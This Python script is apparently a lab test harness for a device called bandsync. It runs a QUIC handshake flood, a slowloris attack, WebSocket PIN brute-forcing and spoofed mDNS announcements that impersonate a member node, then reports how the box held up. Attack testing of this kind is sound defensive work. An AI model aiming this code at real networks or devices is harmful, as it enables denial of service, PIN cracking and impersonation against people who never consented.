#!/usr/bin/env python3
"""A stranger on the rehearsal-room network (issue 12): attacks one bandsync box, all at once,
for --duration seconds, and writes a JSON report of what it tried and what it got.

  * QUIC handshake flood at the box's QUIC port: --quic-attempts real QUIC client handshakes
    (aioquic: Initial packets with a TLS ClientHello, ALPN bandsync/1, Retry followed), up to
    --quic-concurrency at a time, from one address (so the box's per-address caps apply);
  * HTTP slowloris: --slow-conns TCP connections to the box's HTTP port, each sending a request
    header a few bytes at a time and never finishing it;
  * PIN guessing over WebSocket: {"type":"join_session"} then {"type":"set_tempo","bpm":200,
    "pin":"<guess>"} on ws://box:PORT/ws, guesses 000000, 000001, ... on --ws-conns connections
    (reconnecting when the box closes one);
  * spoofed mDNS: unsolicited `_bandsync._udp.local.` answers (PTR, SRV, TXT, A, cache-flush
    bit set) for the member's node id (--spoof-id) and for a made-up id, both pointing at the
    stranger's own address, sent to 224.0.0.251:5353 every --mdns-every seconds.

Needs root only for nothing (the lab runs it in a namespace of its own) and python3 with
aioquic for the QUIC part (installed with `pip install aioquic` when missing; without it the
QUIC part is skipped and reported as such). Usage: see --help. Exit 0 when the attack ran.
"""

import argparse
import asyncio
import base64
import hashlib
import json
import os
import random
import resource
import selectors
import socket
import struct
import subprocess
import sys
import threading
import time

PROTOCOL_VERSION = 3          # src/core/wire.rs PROTOCOL_VERSION (TXT v)
ROOM_HASH_DOMAIN = "bandsync-room:"
ALPN = "bandsync/1"


def log(*a):
    print("[stranger %7.2f]" % (time.monotonic() - T0), *a, flush=True)


T0 = time.monotonic()


# ------------------------------------------------------------------------------ QUIC flood

def ensure_aioquic():
    try:
        import aioquic  # noqa: F401
        return True
    except ImportError:
        pass
    log("aioquic missing: pip install aioquic")
    try:
        subprocess.run([sys.executable, "-m", "pip", "install", "-q", "aioquic"], check=True,
                       timeout=300, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
        import aioquic  # noqa: F401
        return True
    except Exception as e:  # noqa: BLE001
        log("cannot install aioquic (%s): QUIC flood skipped" % e)
        return False


def quic_flood(a, rep, stop):
    r = rep["quic"] = {"attempts": 0, "handshake_done": 0, "refused": 0, "timeout": 0,
                       "close_unanswered": 0, "closed_by_box": 0, "held_open": 0, "held_s_max": 0,
                       "errors": {}, "seconds": None, "skipped": False}
    if not ensure_aioquic():
        r["skipped"] = True
        return
    import ssl
    from aioquic.asyncio.client import connect
    from aioquic.quic.configuration import QuicConfiguration

    async def handshake(cfg, done):
        async with connect(a.target, a.quic_port, configuration=cfg, wait_connected=True) as c:
            r["handshake_done"] += 1
            done.append(1)
            if a.quic_hold > 0:
                # hold the connection, never authenticating: does the box close it?
                t = time.monotonic()
                try:
                    await asyncio.wait_for(c.wait_closed(), a.quic_hold)
                    r["closed_by_box"] += 1
                    r["held_s_max"] = max(r["held_s_max"], round(time.monotonic() - t, 2))
                except asyncio.TimeoutError:
                    r["held_open"] += 1

    async def attempt():
        r["attempts"] += 1
        cfg = QuicConfiguration(is_client=True, alpn_protocols=[ALPN], verify_mode=ssl.CERT_NONE,
                                server_name="bandsync", idle_timeout=2.0)
        done = []
        try:
            # aioquic's connect() has no handshake deadline of its own
            await asyncio.wait_for(handshake(cfg, done), a.quic_timeout + a.quic_hold)
        except asyncio.TimeoutError:
            # a handshake that completed but whose close was not answered in time is no timeout
            r["close_unanswered" if done else "timeout"] += 1
        except ConnectionError as e:
            r["refused"] += 1
            k = (str(e) or type(e).__name__)[:60]
            r["errors"][k] = r["errors"].get(k, 0) + 1
        except Exception as e:  # noqa: BLE001
            k = type(e).__name__ + ": " + str(e)[:50]
            r["errors"][k] = r["errors"].get(k, 0) + 1

    async def main():
        sem = asyncio.Semaphore(a.quic_concurrency)
        t = time.monotonic()

        async def bounded():
            async with sem:
                if not stop.is_set():
                    await attempt()

        await asyncio.gather(*(bounded() for _ in range(a.quic_attempts)))
        r["seconds"] = round(time.monotonic() - t, 2)

    try:
        asyncio.run(main())
    except Exception as e:  # noqa: BLE001
        r["errors"]["flood: " + type(e).__name__] = str(e)[:80]
    log("QUIC flood done: %s" % json.dumps({k: v for k, v in r.items() if k != "errors"}))


# ------------------------------------------------------------------------------ slowloris

def slowloris(a, rep, stop):
    r = rep["slowloris"] = {"target": a.slow_conns, "connected": 0, "connect_failed": 0,
                            "closed_by_box": 0, "open_at_end": 0, "max_open": 0, "bytes_sent": 0,
                            "http_replies": 0}
    sel = selectors.DefaultSelector()
    conns = {}   # sock -> state: "connecting" | "open"
    started = 0
    deadline = time.monotonic() + a.duration
    next_trickle = time.monotonic() + 1.0
    line = ("GET / HTTP/1.1\r\nHost: %s:%d\r\nUser-Agent: slowloris\r\n" % (a.target, a.http_port)).encode()
    while not stop.is_set() and time.monotonic() < deadline:
        # open more, at most 100 per round
        n = 0
        while started < a.slow_conns and n < 100:
            s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
            s.setblocking(False)
            try:
                s.connect_ex((a.target, a.http_port))
            except OSError:
                r["connect_failed"] += 1
                s.close()
                started += 1
                continue
            conns[s] = "connecting"
            sel.register(s, selectors.EVENT_WRITE | selectors.EVENT_READ)
            started += 1
            n += 1
        for key, ev in sel.select(timeout=0.05):
            s = key.fileobj
            st = conns.get(s)
            if st is None:
                continue
            if st == "connecting" and ev & selectors.EVENT_WRITE:
                err = s.getsockopt(socket.SOL_SOCKET, socket.SO_ERROR)
                if err:
                    r["connect_failed"] += 1
                    sel.unregister(s); s.close(); del conns[s]
                    continue
                conns[s] = "open"
                r["connected"] += 1
                sel.modify(s, selectors.EVENT_READ)
                try:
                    r["bytes_sent"] += s.send(line[:10])   # a first few bytes only
                except OSError:
                    pass
                continue
            if ev & selectors.EVENT_READ:
                try:
                    data = s.recv(4096)
                except OSError:
                    data = b""
                if data:
                    if data.startswith(b"HTTP/"):
                        r["http_replies"] += 1
                    continue
                r["closed_by_box"] += 1
                sel.unregister(s); s.close(); del conns[s]
        r["max_open"] = max(r["max_open"], sum(1 for v in conns.values() if v == "open"))
        if time.monotonic() >= next_trickle:
            next_trickle = time.monotonic() + 2.0
            for s, st in list(conns.items()):
                if st != "open":
                    continue
                try:
                    r["bytes_sent"] += s.send(b"X-%d: %d\r\n" % (random.randrange(9999), random.randrange(9999)))
                except OSError:
                    r["closed_by_box"] += 1
                    sel.unregister(s); s.close(); del conns[s]
    r["open_at_end"] = sum(1 for v in conns.values() if v == "open")
    for s in list(conns):
        s.close()
    log("slowloris done: %s" % json.dumps(r))


# ------------------------------------------------------------------------------ PIN guessing

def ws_connect(host, port, timeout=3.0):
    s = socket.create_connection((host, port), timeout=timeout)
    key = base64.b64encode(os.urandom(16)).decode()
    req = ("GET /ws HTTP/1.1\r\nHost: %s:%d\r\nUpgrade: websocket\r\nConnection: Upgrade\r\n"
           "Sec-WebSocket-Key: %s\r\nSec-WebSocket-Version: 13\r\n\r\n" % (host, port, key))
    s.sendall(req.encode())
    buf = b""
    while b"\r\n\r\n" not in buf:
        d = s.recv(4096)
        if not d:
            raise ConnectionError("closed during the upgrade")
        buf += d
    head, _, rest = buf.partition(b"\r\n\r\n")
    status = head.split(b"\r\n", 1)[0]
    if b" 101 " not in status:
        raise ConnectionError("upgrade refused: %s" % status.decode(errors="replace")[:60])
    return s, rest


def ws_send(s, text):
    payload = text.encode()
    hdr = bytearray([0x81])
    n = len(payload)
    if n < 126:
        hdr.append(0x80 | n)
    elif n < 65536:
        hdr.append(0x80 | 126); hdr += struct.pack(">H", n)
    else:
        hdr.append(0x80 | 127); hdr += struct.pack(">Q", n)
    mask = os.urandom(4)
    hdr += mask
    s.sendall(bytes(hdr) + bytes(b ^ mask[i % 4] for i, b in enumerate(payload)))


def ws_recv(s, buf):
    """One frame: returns (opcode, payload, rest of buf)."""
    def need(n):
        nonlocal buf
        while len(buf) < n:
            d = s.recv(65536)
            if not d:
                raise ConnectionError("closed by the box")
            buf += d
    need(2)
    op, ln = buf[0] & 0x0F, buf[1] & 0x7F
    off = 2
    if ln == 126:
        need(4); ln = struct.unpack(">H", buf[2:4])[0]; off = 4
    elif ln == 127:
        need(10); ln = struct.unpack(">Q", buf[2:10])[0]; off = 10
    masked = buf[1] & 0x80
    if masked:
        off += 4
    need(off + ln)
    payload = buf[off:off + ln]
    return op, payload, buf[off + ln:]


def pin_guesser(a, rep, stop, k, counter, lock):
    r = rep["pin"]
    deadline = time.monotonic() + a.duration
    while not stop.is_set() and time.monotonic() < deadline:
        try:
            s, buf = ws_connect(a.target, a.http_port)
        except (OSError, ConnectionError) as e:
            with lock:
                r["connect_failed"] += 1
                kk = str(e)[:60]
                r["connect_errors"][kk] = r["connect_errors"].get(kk, 0) + 1
            time.sleep(0.2)
            continue
        with lock:
            r["connections"] += 1
        try:
            s.settimeout(3.0)
            ws_send(s, json.dumps({"type": "join_session", "name": "stranger%d" % k}))
            while not stop.is_set() and time.monotonic() < deadline:
                with lock:
                    guess = "%06d" % (counter[0] % 1000000)
                    counter[0] += 1
                    r["guesses"] += 1
                ws_send(s, json.dumps({"type": "set_tempo", "bpm": 200, "pin": guess}))
                # read until the answer to this guess (ack or error); skip pushes
                while True:
                    op, payload, buf = ws_recv(s, buf)
                    if op == 8:
                        raise ConnectionError("close frame")
                    if op == 9:   # ping -> pong
                        continue
                    if op != 1:
                        continue
                    try:
                        m = json.loads(payload)
                    except ValueError:
                        continue
                    t = m.get("type")
                    if t == "ack":
                        with lock:
                            r["accepted"] += 1
                            r["accepted_pins"].append(guess)
                        break
                    if t == "error":
                        code = str(m.get("code") or m.get("error") or "?")[:40]
                        with lock:
                            r["errors"][code] = r["errors"].get(code, 0) + 1
                        break
                time.sleep(a.ws_gap)
        except (OSError, ConnectionError) as e:
            with lock:
                r["closed_by_box"] += 1
                kk = str(e)[:40]
                r["close_reasons"][kk] = r["close_reasons"].get(kk, 0) + 1
        finally:
            s.close()
        time.sleep(0.1)


def pin_guessing(a, rep, stop):
    rep["pin"] = {"connections": 0, "connect_failed": 0, "connect_errors": {}, "guesses": 0,
                  "accepted": 0, "accepted_pins": [], "errors": {}, "closed_by_box": 0,
                  "close_reasons": {}}
    counter, lock = [random.randrange(1000000)], threading.Lock()
    th = [threading.Thread(target=pin_guesser, args=(a, rep, stop, k, counter, lock), daemon=True)
          for k in range(a.ws_conns)]
    for t in th:
        t.start()
    for t in th:
        t.join(a.duration + 10)
    log("PIN guessing done: %s" % json.dumps(rep["pin"]))


# ------------------------------------------------------------------------------ mDNS spoofing

def dns_name(name):
    out = b""
    for label in name.rstrip(".").split("."):
        b = label.encode()
        out += bytes([len(b)]) + b
    return out + b"\0"


def rr(name, rtype, rclass, ttl, rdata):
    return dns_name(name) + struct.pack(">HHIH", rtype, rclass, ttl, len(rdata)) + rdata


def advert(node_id, name, room_hash, port, ip):
    svc = "_bandsync._udp.local."
    inst = "%s.%s" % (node_id, svc)
    host = "%s.local." % node_id
    txt = b""
    for kv in ("v=%d" % PROTOCOL_VERSION, "id=" + node_id, "name=" + name, "room=" + room_hash,
               "port=%d" % port):
        txt += bytes([len(kv)]) + kv.encode()
    flush = 0x8001   # IN, cache-flush: "forget what you knew of this name"
    answers = [
        rr(svc, 12, 1, 4500, dns_name(inst)),                                  # PTR
        rr(inst, 33, flush, 120, struct.pack(">HHH", 0, 0, port) + dns_name(host)),  # SRV
        rr(inst, 16, flush, 4500, txt),                                         # TXT
        rr(host, 1, flush, 120, socket.inet_aton(ip)),                          # A
    ]
    return struct.pack(">HHHHHH", 0, 0x8400, 0, len(answers), 0, 0) + b"".join(answers)


def mdns_spoof(a, rep, stop):
    r = rep["mdns"] = {"packets": 0, "ids": [], "errors": 0}
    room_hash = hashlib.sha256((ROOM_HASH_DOMAIN + a.room).encode()).hexdigest()[:16]
    fake = "%016x" % random.getrandbits(64)
    ids = ([a.spoof_id] if a.spoof_id else []) + [fake]
    r["ids"] = ids
    r["room_hash"] = room_hash
    pkts = [advert(i, "node1" if i == a.spoof_id else "stranger", room_hash, a.quic_port, a.self_ip)
            for i in ids]
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM, socket.IPPROTO_UDP)
    s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    s.setsockopt(socket.IPPROTO_IP, socket.IP_MULTICAST_TTL, 255)
    s.setsockopt(socket.IPPROTO_IP, socket.IP_MULTICAST_IF, socket.inet_aton(a.self_ip))
    try:
        s.bind((a.self_ip, 5353))
    except OSError:
        s.bind((a.self_ip, 0))
    deadline = time.monotonic() + a.duration
    while not stop.is_set() and time.monotonic() < deadline:
        for p in pkts:
            try:
                s.sendto(p, ("224.0.0.251", 5353))
                r["packets"] += 1
            except OSError:
                r["errors"] += 1
        time.sleep(a.mdns_every)
    s.close()
    log("mDNS spoofing done: %s" % json.dumps(r))


# ------------------------------------------------------------------------------ main

def main():
    ap = argparse.ArgumentParser(description=__doc__.split("\n\n")[0],
                                 formatter_class=argparse.RawDescriptionHelpFormatter)
    ap.add_argument("--target", required=True, help="the box's address")
    ap.add_argument("--quic-port", type=int, default=47810)
    ap.add_argument("--http-port", type=int, default=8080)
    ap.add_argument("--duration", type=float, default=25.0, help="seconds (default 25)")
    ap.add_argument("--room", default="lab", help="room name (its hash goes in the spoofed TXT)")
    ap.add_argument("--spoof-id", default="", help="a member's node id to impersonate in mDNS")
    ap.add_argument("--self", dest="self_ip", required=True, help="the stranger's own IPv4 address")
    ap.add_argument("--iface", default="", help="(informative) the stranger's interface")
    ap.add_argument("--quic-attempts", type=int, default=1000)
    ap.add_argument("--quic-concurrency", type=int, default=100)
    ap.add_argument("--quic-timeout", type=float, default=3.0, help="per handshake (s)")
    ap.add_argument("--quic-hold", type=float, default=0.0,
                    help="keep each handshaken connection open up to this long without "
                         "authenticating, counting the ones the box closes (default 0: close at once)")
    ap.add_argument("--slow-conns", type=int, default=1500)
    ap.add_argument("--ws-conns", type=int, default=4, help="parallel PIN-guessing sockets")
    ap.add_argument("--ws-gap", type=float, default=0.0, help="pause between guesses (s)")
    ap.add_argument("--mdns-every", type=float, default=0.5)
    ap.add_argument("--only", default="quic,slow,pin,mdns", help="comma-separated attacks to run")
    ap.add_argument("--report", default="", help="write the JSON report here")
    a = ap.parse_args()
    try:
        soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
        want = a.slow_conns + a.quic_concurrency * 2 + 200
        if soft < want:
            resource.setrlimit(resource.RLIMIT_NOFILE, (max(want, soft), max(want, hard)))
    except (ValueError, OSError) as e:
        log("cannot raise RLIMIT_NOFILE: %s" % e)
    only = set(a.only.split(","))
    rep = {"target": a.target, "duration_s": a.duration, "started_unix": time.time()}
    stop = threading.Event()
    jobs = {"quic": quic_flood, "slow": slowloris, "pin": pin_guessing, "mdns": mdns_spoof}
    th = [threading.Thread(target=f, args=(a, rep, stop), daemon=True, name=k)
          for k, f in jobs.items() if k in only]
    log("attacking %s for %.0f s: %s" % (a.target, a.duration, ",".join(t.name for t in th)))
    for t in th:
        t.start()
    end = time.monotonic() + a.duration
    try:
        while time.monotonic() < end and any(t.is_alive() for t in th):
            time.sleep(0.2)
    except KeyboardInterrupt:
        pass
    stop.set()
    for t in th:
        t.join(15)
    rep["elapsed_s"] = round(time.monotonic() - T0, 1)
    if a.report:
        with open(a.report, "w") as f:
            json.dump(rep, f, indent=1, sort_keys=True)
    print(json.dumps(rep, sort_keys=True))
    return 0


if __name__ == "__main__":
    sys.exit(main())
